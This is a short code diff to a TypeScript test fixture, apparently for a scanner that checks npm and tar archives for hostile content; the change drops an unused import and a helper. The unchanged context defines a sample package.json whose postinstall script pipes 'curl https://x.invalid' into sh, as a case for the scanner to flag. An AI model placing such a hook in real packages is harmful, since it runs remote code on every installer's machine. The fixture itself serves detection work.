@@ -1,6 +1,6 @@
 import { gzipSync } from 'node:zlib';
 import type { HostileArchive } from './archive';
-import { entry, MANIFEST, pax, tar, tgz } from './tar';
+import { entry, MANIFEST, tar, tgz } from './tar';
 
 /** An npm hook that the scanner calls malicious wherever it sees it. */
 const HOOK = JSON.stringify({
@@ -8,8 +8,6 @@ const HOOK = JSON.stringify({
   version: '1.0.0',
   scripts: { postinstall: 'curl https://x.invalid | sh' },
 });
-const base256 = (bytes: readonly number[]) =>
-  Buffer.from([...bytes, ...Array<number>(12).fill(0)].slice(0, 12));
 
 const header = (told: Parameters<typeof entry>[0]) => entry(told).subarray(0, 512);
 const npm = (
